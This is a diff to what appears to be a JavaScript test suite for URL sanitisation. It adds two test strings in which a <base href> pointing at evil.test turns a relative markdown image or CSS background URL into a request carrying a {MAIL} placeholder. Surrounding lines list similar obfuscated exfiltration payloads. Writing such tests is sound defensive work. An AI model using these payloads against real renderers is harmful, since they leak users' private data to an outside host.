@@ -158,6 +158,8 @@ describe('relative and local URLs', () => {
     '![x](&#47;/evil.test/{MAIL})',
     '![x](/\t/evil.test/{MAIL})',
     '<base href="//evil.test/"><img src="x/{MAIL}">',
+    '<base href="//evil.test/">\n\n![x](a/{MAIL})',
+    '<base href="//evil.test/"><style>p { background: url(a/{MAIL}) }</style>',
     '<meta content="0;url=//evil.test/{MAIL}">',
     '<img srcset="a.png 1x,//evil.test/{MAIL}">',
     '<p onclick="a/{MAIL}">',
